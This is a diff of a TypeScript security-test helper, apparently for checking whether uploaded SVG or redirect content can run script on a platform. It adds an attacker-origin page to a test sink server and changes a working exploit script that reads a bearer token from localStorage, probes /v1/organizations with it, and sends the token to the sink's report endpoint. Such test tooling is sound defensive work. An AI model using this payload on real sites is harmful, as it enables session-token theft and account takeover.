@@ -31,6 +31,9 @@ export interface Sink {
 export async function startSink(): Promise<Sink> {
   const reports: Report[] = [];
   const server: Server = createServer((req, res) => {
+    // A page of the attacker's own site (another origin than the platform's).
+    if (req.url === '/page')
+      return res.writeHead(200, { 'content-type': 'text/html' }).end('<p>elsewhere</p>');
     const q = new URL(req.url ?? '/', 'http://sink').searchParams;
     reports.push({ where: q.get('where') ?? '', token: q.get('t') ?? '', management: q.get('s') ?? '' });
     res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
@@ -49,13 +52,14 @@ export async function startSink(): Promise<Sink> {
  * it (same origin: no CORS in the way), both reported to the sink. No `<`, `&`: it goes into SVG/XML.
  */
 export function exploitScript(sink: string): string {
+  // One line: it also goes into a Location header.
   return `(async function () {
   var t = 'none', s = 'none';
   try { t = String(localStorage.getItem('${TOKEN_KEY}')); } catch (e) { t = 'blocked:' + e.name; }
   try { var r = await fetch('/v1/organizations', { headers: { authorization: 'Bearer ' + t } }); s = String(r.status); } catch (e) { s = 'blocked:' + e.name; }
   var q = new URLSearchParams({ where: location.href, t: t, s: s });
   try { await fetch('${sink}/report?' + q, { mode: 'no-cors' }); } catch (e) { new Image().src = '${sink}/report?' + q; }
-})();`;
+})();`.replace(/\n\s*/g, ' ');
 }
 
 export const exploitHtml = (sink: string): string =>
@@ -94,7 +98,11 @@ export function endUserJwt(project: ProjectContext): Promise<string> {
 }
 
 /** As the owner: a public bucket end users may upload to (a common avatars setup). */
-export async function publicUploadBucket(tp: TestPlatform, project: ProjectContext, id: string): Promise<void> {
+export async function publicUploadBucket(
+  tp: TestPlatform,
+  project: ProjectContext,
+  id: string,
+): Promise<void> {
   const res = await fetch(`${tp.url}/project/${project.ref}/storage/v1/bucket`, {
     method: 'POST',
     headers: {
